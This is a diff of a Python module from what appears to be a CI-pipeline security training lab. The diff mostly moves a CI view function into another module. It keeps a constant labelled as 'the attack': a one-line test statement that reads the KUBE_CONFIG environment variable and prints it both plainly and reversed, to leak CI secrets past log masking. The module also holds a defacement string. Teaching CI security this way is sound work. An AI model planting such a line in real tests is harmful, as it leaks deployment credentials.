@@ -2,26 +2,15 @@
 
 from __future__ import annotations
 
-from labs.errors import LabError
 from labs.exercises import pipeline_checks as checks
 from labs.exercises import pipeline_proofs as proofs
-from labs.instance import Instance
-from labs.step import Frame, Step
+from labs.exercises.pipeline_views import VIEWS as VIEWS
+from labs.step import Step
 
 LINE = 'print("LEAK", key := __import__("os").environ.get("KUBE_CONFIG", "nothing"), key[::-1])'
 """The attack: one line of a test, which prints what CI may have been given. It passes flake8."""
 DEFACED = "This page is mine now"
 
-
-def ci_view(instance: Instance) -> Frame:
-    """Show CI's newest run, stage by stage."""
-    try:
-        return Frame(checks.newest_runs(instance))
-    except LabError as away:  # it may come back while one watches
-        return Frame(str(away))
-
-
-VIEWS = {"ci": ci_view}
 
 STEPS: tuple[Step, ...] = (
     Step(
